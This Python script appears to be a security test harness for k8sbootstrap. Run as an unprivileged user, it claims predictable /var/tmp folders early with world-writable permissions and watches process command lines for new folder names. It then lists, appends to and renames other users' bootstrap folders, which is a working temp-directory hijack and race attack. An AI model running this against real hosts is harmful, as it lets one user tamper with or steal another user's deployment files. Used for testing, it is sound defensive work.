"""Run on a host as a user without rights, until it is killed: tries to get at the files that are sent there.

Makes folders of names that it may know, and reads, replaces and changes what k8sbootstrap brings to
/var/tmp. Prints a line for each folder it saw, and for each thing that it was able to do.
"""

from __future__ import annotations

import contextlib
import re
import sys
import time
from pathlib import Path

PLACE = Path("/var/tmp")
MADE_FIRST = (PLACE / "k8sbootstrap-ansible", PLACE / "k8sbootstrap-tmp-mine")


def say(*words: object) -> None:
    """Print a line at once."""
    sys.stdout.write(" ".join(map(str, words)) + "\n")
    sys.stdout.flush()


def announced() -> set[Path]:
    """Folders of ours that command lines of processes name: they may not be there yet."""
    found: set[str] = set()
    for process in Path("/proc").glob("[0-9]*"):
        with contextlib.suppress(OSError):
            text = (process / "cmdline").read_bytes().decode(errors="replace")
            found |= set(re.findall(r"/var/tmp/k8sbootstrap-tmp-\w+", text))
    return {Path(path) for path in found}


def attack(folder: Path) -> None:
    """Try everything on a folder of another user."""
    say("saw", f"{folder.lstat().st_mode & 0o7777:04o}")
    with contextlib.suppress(OSError):
        say("listed", folder, *folder.iterdir())
    for name in ("0", "packages.tar", "new"):
        with contextlib.suppress(OSError), (folder / name).open("ab") as handle:
            handle.write(b"evil")
            say("wrote", folder, name)
    with contextlib.suppress(OSError):
        folder.rename(f"{folder}-stolen")
        say("moved", folder)


def main() -> None:
    """Try until killed."""
    for folder in MADE_FIRST:
        folder.mkdir()
        folder.chmod(0o777)
    say("ready")
    known = set(MADE_FIRST)
    while True:
        for folder in announced() - known:
            with contextlib.suppress(OSError):
                folder.mkdir()
                known.add(folder)
                say("made", folder)
        for folder in set(PLACE.glob("k8sbootstrap*")) - known:
            known.add(folder)
            with contextlib.suppress(FileNotFoundError):
                attack(folder)
        time.sleep(0.001)


if __name__ == "__main__":
    main()
